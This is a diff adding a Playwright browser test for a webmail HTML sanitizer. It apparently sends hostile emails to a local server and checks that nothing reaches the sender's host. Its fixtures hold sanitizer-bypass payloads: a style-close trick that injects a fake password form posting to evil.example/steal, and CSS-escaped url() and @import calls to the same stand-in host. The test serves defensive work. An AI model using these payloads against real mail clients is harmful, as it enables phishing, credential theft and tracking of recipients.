@@ -1,0 +1,115 @@
+// Hostile HTML mail opened in the webmail, in a real headless Chromium against a real Yubin on
+// 127.0.0.1 (issue 18, finding 7): the style-close trick brings no <link rel=preconnect> and no
+// fake login form into the reading frame, CSS escapes load no background, and a malformed cid:
+// URL neither throws nor leaves the next message blank. The sanitizer's unit tests
+// (web/src/mail/sanitize.test.ts) cover the payloads one by one; this checks what the browser
+// finally shows. Skipped, with the reason, only when /usr/bin/chromium is not installed.
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { after, before, describe, test } from "node:test";
+import { createTransport } from "nodemailer";
+import type { Browser, Page } from "playwright-core";
+import { browserSkip, launchBrowser } from "../testing/browser.js";
+import { startTestServer, type TestServer, testPassword } from "../testing/harness.js";
+import { DEFAULT_DIST_DIR } from "./handler.js";
+
+describe("hostile HTML mail in the webmail", { skip: browserSkip }, () => {
+  let ts: TestServer;
+  let browser: Browser;
+  let page: Page;
+  const requested: string[] = [];
+  const pageErrors: string[] = [];
+
+  before(async () => {
+    if (!existsSync(join(DEFAULT_DIST_DIR, "index.html"))) {
+      const r = spawnSync(process.execPath, ["node_modules/vite/bin/vite.js", "build", "web"], {
+        stdio: "inherit",
+      });
+      assert.equal(r.status, 0, "vite build web failed");
+    }
+    ts = await startTestServer({ config: { outbound: { enabled: false } } });
+    browser = await launchBrowser();
+    const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: "en-US" });
+    context.on("request", (r) => requested.push(r.url()));
+    page = await context.newPage();
+    page.setDefaultTimeout(8000);
+    page.on("pageerror", (e) => pageErrors.push(String(e)));
+
+    const smtp = createTransport({ host: "127.0.0.1", port: ts.ports.smtp, secure: false, ignoreTLS: true });
+    const send = (subject: string, html: string) =>
+      smtp.sendMail({ from: "Mallory <mallory@evil.example>", to: ts.users[0]!.address, subject, html });
+    await send(
+      "Style close",
+      '<style>p{color:#123}</</stylestyle><link rel=preconnect href="https://evil.example/">' +
+        '<form action="https://evil.example/steal"><p>Your session expired. Password:</p>' +
+        "<input type=password name=pw><button>Log in</button></form></style><p class=real>Hello</p>",
+    );
+    await send(
+      "CSS escapes",
+      "<style>p.a{background:\\75 rl(https://evil.example/a.png)}@\\69mport 'https://evil.example/b.css';</style>" +
+        '<p class="a">A</p><p class="b" style="background-image:u\\72l(https://evil.example/c.png)">B</p>',
+    );
+    await send("Bad cid", '<p>Before</p><img src="cid:%E0%A4%A" alt="broken"><p>After</p>');
+    await send("Plain next", "<p>The next message shows.</p>");
+    smtp.close();
+
+    await page.goto(`https://localhost:${ts.ports.https!}/`);
+    await page.getByLabel("Email address").fill(ts.users[0]!.address);
+    await page.getByLabel("Password").fill(testPassword);
+    await page.getByRole("button", { name: "Log in" }).click();
+  });
+
+  after(async () => {
+    await browser?.close();
+    await ts?.stop();
+  });
+
+  const openMessage = async (subject: string) => {
+    await page.locator(".message-list .row", { hasText: subject }).click();
+    await page.locator(".reader h1", { hasText: subject }).waitFor();
+    return page.frameLocator("iframe.html-body");
+  };
+
+  test("the style-close trick brings no link, no form, no control into the frame", async () => {
+    const frame = await openMessage("Style close");
+    await frame.locator("p.real", { hasText: "Hello" }).waitFor();
+    assert.equal(await frame.locator("link, form, input, button").count(), 0);
+    assert.equal(await frame.locator("body *").count(), 1, "only <p class=real> in the body");
+    assert.equal(await frame.locator("p.real").evaluate((p) => getComputedStyle(p).color), "rgb(17, 34, 51)");
+  });
+
+  test("CSS escapes give no background image and no imported sheet", async () => {
+    const frame = await openMessage("CSS escapes");
+    await frame.locator("p.b", { hasText: "B" }).waitFor();
+    for (const sel of ["p.a", "p.b"]) {
+      assert.equal(
+        await frame.locator(sel).evaluate((p) => getComputedStyle(p).backgroundImage),
+        "none",
+        sel,
+      );
+    }
+    assert.equal(
+      await frame.locator("p.a").evaluate((p) => p.ownerDocument.styleSheets.length),
+      2,
+      "the frame's own sheet and the message's, nothing imported",
+    );
+  });
+
+  test("a malformed cid: URL drops that image; the next message still shows", async () => {
+    const frame = await openMessage("Bad cid");
+    await frame.locator("p", { hasText: "After" }).waitFor();
+    assert.equal(await frame.locator("img").getAttribute("src"), null);
+    const next = await openMessage("Plain next");
+    await next.locator("p", { hasText: "The next message shows." }).waitFor();
+    assert.deepEqual(pageErrors, []);
+  });
+
+  test("nothing was requested from the sender's host", () => {
+    assert.deepEqual(
+      requested.filter((u) => u.includes("evil.example")),
+      [],
+    );
+  });
+});
